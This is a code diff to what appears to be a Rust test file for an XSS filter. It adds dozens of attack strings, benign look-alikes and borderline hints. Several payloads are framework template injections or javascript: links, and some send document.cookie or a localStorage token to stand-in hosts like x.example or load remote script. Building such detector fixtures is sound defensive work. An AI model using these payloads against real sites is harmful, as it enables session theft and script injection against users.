@@ -6,6 +6,34 @@ const VALUE: Context = Context::of(Place::Value);
 const RICH: Context = Context { place: Place::Value, rich_text: true };
 
 const ATTACKS: &[&str] = &[
+    "<div ng-app ng-csp><input ng-focus=$event.composedPath()|orderBy:'(z=alert)(1)' autofocus></div>",
+    "<x v-if=\"_c.constructor('alert(1)')()\">",
+    "<p :title=\"$el.ownerDocument.defaultView.alert(1)\">",
+    "<div data-bind=\"value: alert(1)\">",
+    "{{a='constructor';b={};a.sub.call.call(b[a].x(b[a].y(a.sub),a).value,0,'alert(1)')()}}",
+    "[].filter.constructor('alert(1)')()",
+    "<base href=//x.example/>",
+    "\"><base href=\"https://x.example/\">",
+    "<meta http-equiv=refresh content=\"0;url=//x.example\">",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x]: data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "[a](javascript:window.onerror=alert;throw%20document.cookie)",
+    "[url=javascript:onerror=alert;throw 1]x[/url]",
+    "1;document.body.innerHTML='<h1>x</h1>'",
+    "location.href='//x.example/'+document.cookie",
+    "window.location='http://x.example/?'+document.cookie",
+    "new Image().src='//x.example/?'+document.cookie",
+    "fetch('//x.example/?c='+document.cookie)",
+    "import('//x.example/x.js')",
+    "$.getScript('//x.example/x.js')",
+    "setTimeout(alert,0,1)",
+    "[1].find(alert)",
+    "[\"1\"].forEach(alert)",
+    "*/alert(1)/*",
+    "1}body{x:Expre/**/SSion(prompt(1))}",
+    "<% contenteditable onresize=prompt(1)>",
+    "<a href=j&Tab;a&Tab;vas&Tab;c&#10;r&#x0d;ipt:alert(1)>x</a>",
+    "x\" onclick=\"location='//x.example'\" y=\"",
     "';new Image().src='//evil.example/?'+document.cookie;'",
     "';new \n Image().src=`http://evil.example/?`+localStorage.token;//z",
     "';document.body.innerHTML='<h1>x</h1>';'",
@@ -153,6 +181,15 @@ const ATTACKS: &[&str] = &[
 ];
 
 const HONEST: &[&str] = &[
+    "<el-button :title=\"$t('save')\" v-if=\"user.admin\">x</el-button>",
+    "<td>{{ list | orderBy:'date' }}</td><p ng-show=\"a|filter:'name'\">x</p>",
+    "<% if (list.size() > 0) { %>",
+    "[报告](https://www.example.org/a.html) [1]: https://www.example.org/b",
+    "document.title='首页'",
+    "location = 3F; window = 2",
+    "items.map(confirmOrder)",
+    "[1].map(String)",
+    "x-y; location: 3F",
     "'new Image' 是什么",
     "it's a new image; see src",
     "<template><b>{{ a }}</b></template>\n<script>\nexport default { data() { return { a: 1 } } }\n</script>",
@@ -247,6 +284,8 @@ const HONEST: &[&str] = &[
 ];
 
 const HINTS: &[&str] = &[
+    "document.body.innerHTML='<h1>x</h1>'",
+    "请教：页面里 <base href=\"https://www.example.org/\"> 这一行会影响所有相对路径的链接吗",
     "<script> put it </b>",
     "XSS 整改: 对 <script>、onerror= 等做转义; 参考等保 8.1.4",
     "<script setup> 语法 (已解决)",
@@ -255,7 +294,7 @@ const HINTS: &[&str] = &[
     "<script>",
     "</script>",
     "<iframe src=//x.example>",
-    "<base href=//x.example/>",
+    "<base href=\"/his/\">",
     "<a href=\"javascript:show(1)\">x</a>",
     "<a href=\"#\" onclick=\"showReport(3)\">x</a>",
     "<p onclick=\"this.className='on'\">x</p>",
